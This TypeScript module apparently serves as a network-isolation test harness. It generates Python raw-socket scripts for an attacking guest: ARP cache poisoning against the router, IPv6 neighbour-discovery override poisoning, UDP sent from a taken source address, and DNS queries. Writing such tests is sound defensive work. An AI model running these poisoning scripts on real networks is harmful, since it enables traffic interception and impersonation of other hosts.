/**
 * What an attacking guest sends, as small Python programs (raw sockets) run
 * in its namespace: forged ARP and neighbour discovery, datagrams from a
 * borrowed source, and DNS queries of any type.
 */

const hex = (mac: string) => mac.replace(/:/g, '');

/** Gratuitous ARP and replies to the router claiming `ip` for `mac`, `count` of each, 50 ms apart. */
export function arpPoison(o: { ifname: string; mac: string; ip: string; routerMac: string; routerIp: string; count: number }): string {
  return `import socket, struct, time
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); s.bind((${JSON.stringify(o.ifname)}, 0))
me = bytes.fromhex(${JSON.stringify(hex(o.mac))}); rt = bytes.fromhex(${JSON.stringify(hex(o.routerMac))})
ip = socket.inet_aton(${JSON.stringify(o.ip)}); rip = socket.inet_aton(${JSON.stringify(o.routerIp)})
def arp(op, dst, tmac, tip): return dst + me + b'\\x08\\x06' + struct.pack('!HHBBH', 1, 0x0800, 6, 4, op) + me + ip + tmac + tip
for _ in range(${o.count}):
    s.send(arp(2, rt, rt, rip))
    s.send(arp(1, b'\\xff' * 6, b'\\x00' * 6, ip))
    time.sleep(0.05)
print('sent', ${o.count} * 2)`;
}

/** Unsolicited neighbour advertisements (override) for `ip6` with `mac`, and solicitations from it, to all nodes and the router. */
export function ndPoison(o: { ifname: string; mac: string; ip6: string; routerIp6: string; count: number }): string {
  return `import socket, struct, time
s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
for opt in (socket.IPV6_UNICAST_HOPS, socket.IPV6_MULTICAST_HOPS): s.setsockopt(socket.IPPROTO_IPV6, opt, 255)
idx = socket.if_nametoindex(${JSON.stringify(o.ifname)})
s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, idx)
s.bind((${JSON.stringify(o.ip6)}, 0, 0, idx))
me = bytes.fromhex(${JSON.stringify(hex(o.mac))})
target = socket.inet_pton(socket.AF_INET6, ${JSON.stringify(o.ip6)}); router = socket.inet_pton(socket.AF_INET6, ${JSON.stringify(o.routerIp6)})
na = struct.pack('!BBHI', 136, 0, 0, 0x20000000) + target + bytes([2, 1]) + me
ns = struct.pack('!BBHI', 135, 0, 0, 0) + router + bytes([1, 1]) + me
for _ in range(${o.count}):
    s.sendto(na, ('ff02::1', 0, 0, idx))
    s.sendto(na, (${JSON.stringify(o.routerIp6)}, 0, 0, idx))
    s.sendto(ns, (${JSON.stringify(o.routerIp6)}, 0, 0, idx))
    time.sleep(0.05)
print('sent', ${o.count} * 3)`;
}

/** UDP datagrams "spoofed" from `src` (an address the sender has taken) to `dst`:`port`. */
export function udpFrom(o: { src: string; dst: string; port: number; count: number }): string {
  const fam = o.dst.includes(':') ? 'AF_INET6' : 'AF_INET';
  return `import socket, time
s = socket.socket(socket.${fam}, socket.SOCK_DGRAM); s.bind((${JSON.stringify(o.src)}, 0))
for _ in range(${o.count}):
    s.sendto(b'spoofed', (${JSON.stringify(o.dst)}, ${o.port})); time.sleep(0.02)
print('sent', ${o.count})`;
}

/** Listens on UDP `port` (v4 and v6) and prints the source of every datagram saying "spoofed". */
export const udpSink = (port: number): string => `import socket, sys
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0); s.bind(('::', ${port}))
while True:
    d, a = s.recvfrom(2048)
    if d == b'spoofed': print(a[0], flush=True)`;

/** One DNS query over UDP or TCP; prints {rcode, answers: [{type, data}]} as JSON (data: an address, or the record's hex). */
export function dnsQuery(o: { name: string; type: 'A' | 'AAAA' | 'TXT'; server: string; port?: number; tcp?: boolean }): string {
  const qtype = { A: 1, AAAA: 28, TXT: 16 }[o.type];
  return `import socket, struct, random, json
name = ${JSON.stringify(o.name)}; server = ${JSON.stringify(o.server)}
q = struct.pack('!HHHHHH', random.randrange(65536), 0x0100, 1, 0, 0, 0) + b''.join(bytes([len(p)]) + p.encode() for p in name.split('.')) + b'\\x00' + struct.pack('!HH', ${qtype}, 1)
fam = socket.AF_INET6 if ':' in server else socket.AF_INET
if ${o.tcp ? 'True' : 'False'}:
    s = socket.socket(fam, socket.SOCK_STREAM); s.settimeout(3); s.connect((server, ${o.port ?? 53}))
    s.sendall(struct.pack('!H', len(q)) + q); n = struct.unpack('!H', s.recv(2))[0]; r = b''
    while len(r) < n: r += s.recv(n - len(r))
else:
    s = socket.socket(fam, socket.SOCK_DGRAM); s.settimeout(3); s.sendto(q, (server, ${o.port ?? 53})); r = s.recv(4096)
def skip(i):
    while True:
        l = r[i]
        if l == 0: return i + 1
        if l >= 192: return i + 2
        i += l + 1
an = struct.unpack('!H', r[6:8])[0]; i = skip(12) + 4; out = []
for _ in range(an):
    i = skip(i); t, c, ttl, ln = struct.unpack('!HHIH', r[i:i + 10]); d = r[i + 10:i + 10 + ln]; i += 10 + ln
    out.append({'type': t, 'ttl': ttl, 'data': socket.inet_ntop(socket.AF_INET, d) if t == 1 else socket.inet_ntop(socket.AF_INET6, d) if t == 28 else d.hex()})
print(json.dumps({'rcode': r[3] & 15, 'answers': out}))`;
}
